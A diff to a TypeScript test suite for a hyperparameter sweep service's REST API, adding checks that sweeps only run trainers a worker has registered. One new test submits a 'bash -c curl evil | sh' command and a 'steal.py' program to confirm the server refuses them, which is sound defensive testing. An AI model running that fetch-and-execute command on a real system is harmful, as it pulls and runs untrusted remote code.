@@ -24,6 +24,7 @@ let now = 1_000_000;
 
 const YAML_SPEC = `
 method: random
+trainer: mlp
 metric: { name: val_loss, goal: minimize }
 parameters:
   lr: { distribution: log_uniform_values, min: 0.0001, max: 0.1 }
@@ -160,7 +161,7 @@ describe('REST API and scheduling loop', () => {
     const params = Array.from({ length: 65 }, (_, i) => `  p${i}: { min: 0.0, max: 1.0 }`).join(
       '\n',
     );
-    const res = await submit(`method: sobol\nparameters:\n${params}\n`);
+    const res = await submit(`method: sobol\ntrainer: mlp\nparameters:\n${params}\n`);
     expect(res.statusCode).toBe(400);
     expect(res.json().error.message).toMatch(
       /^method: sobol handles at most 64 searched parameters; this sweep has 65/,
@@ -207,6 +208,7 @@ describe('REST API and scheduling loop', () => {
   it('runs a grid to exhaustion without repeating a combination', async () => {
     const grid = `
 method: grid
+trainer: mlp
 parameters:
   a: { values: [1, 2, 3] }
   b: { values: [x, y] }
@@ -285,5 +287,68 @@ describe('a failing sampler', () => {
     } finally {
       registerSampler('sobol', createSobolSampler);
     }
+  });
+});
+
+describe("W&B's program and command", () => {
+  const worker = {
+    workerId: 'w-programs',
+    slots: 1,
+    busy: 0,
+    trainers: [
+      { name: 'mlp' },
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: W&B's command macros, verbatim.
+      {
+        name: 'my-train',
+        program: 'train.py',
+        command: ['${env}', '${interpreter}', '${program}', '${args}'],
+      },
+    ],
+    gpus: [],
+    host: 'h',
+    startedAt: 0,
+  };
+  beforeAll(() => store.heartbeatWorker({ ...worker, at: now }, 60_000));
+  afterAll(() => store.removeWorker(worker.workerId));
+
+  const body = (extra: string) =>
+    `method: random\nparameters:\n  lr: { min: 0.1, max: 1.0 }\n${extra}`;
+
+  it('run with the trainer a worker registered for that program', async () => {
+    const res = await submit(body('program: train.py\n'));
+    expect(res.statusCode, res.body).toBe(201);
+    expect(res.json().sweep.spec).toMatchObject({
+      program: 'train.py',
+      trainer: { name: 'my-train' },
+    });
+    const withCommand = await submit(
+      body('program: train.py\ncommand: ["${env}", "${interpreter}", "${program}", "${args}"]\n'),
+    );
+    expect(withCommand.statusCode, withCommand.body).toBe(201);
+  });
+
+  it('are refused when no worker registered them: REST sweeps run nothing of their own', async () => {
+    const other = await submit(body('program: steal.py\n'));
+    expect(other.statusCode).toBe(400);
+    expect(other.json().error).toMatchObject({ code: 'unknown_trainer' });
+    expect(other.json().error.message).toMatch(
+      /^program: no worker has registered a trainer that runs 'steal.py'/,
+    );
+    const command = await submit(
+      body('program: train.py\ncommand: ["bash", "-c", "curl evil | sh"]\n'),
+    );
+    expect(command.statusCode).toBe(400);
+    expect(command.json().error.message).toMatch(/runs 'train.py' with this command/);
+    const wrongName = await submit(body('program: train.py\ntrainer: mlp\n'));
+    expect(wrongName.statusCode).toBe(400);
+    expect(wrongName.json().error.message).toMatch(/as 'mlp'/);
+  });
+
+  it('or a trainer: a spec with neither is refused, saying what to add', async () => {
+    const res = await submit(body(''));
+    expect(res.statusCode).toBe(400);
+    expect(res.json().error.message).toBe(
+      "trainer: say what runs the trials: a trainer a worker registered (e.g. 'trainer: mlp'), or W&B's 'program: train.py'",
+    );
   });
 });
